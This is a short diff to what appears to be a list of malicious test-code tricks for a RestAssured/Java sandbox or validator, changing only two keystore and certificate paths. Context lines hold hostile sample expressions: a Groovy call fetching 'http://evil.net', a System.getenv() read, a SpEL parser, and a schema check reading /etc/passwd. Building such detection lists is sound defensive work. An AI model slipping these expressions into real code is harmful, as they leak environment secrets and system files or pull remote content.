@@ -74,8 +74,8 @@ TRICKS: dict[str, str] = {
     "groovy getenv": case('given().get("/").then().body("System.getenv()", is(1));'),
     "groovy text": case('given().get("/").then().body("\'http://evil.net\'.toURL().text", is(1));'),
     "spel": case("new org.springframework.expression.spel.standard.SpelExpressionParser();"),
-    "keystore": case('given().keyStore("/root/x", "y");'),
-    "cert": case('given().auth().certificate("/root/x", "y");'),
+    "keystore": case('given().keyStore("/keys/x", "y");'),
+    "cert": case('given().auth().certificate("/keys/x", "y");'),
     "schemafile": case(
         'given().get("/").then().body(matchesJsonSchema(new java.io.File("/etc/passwd")));'
     ),
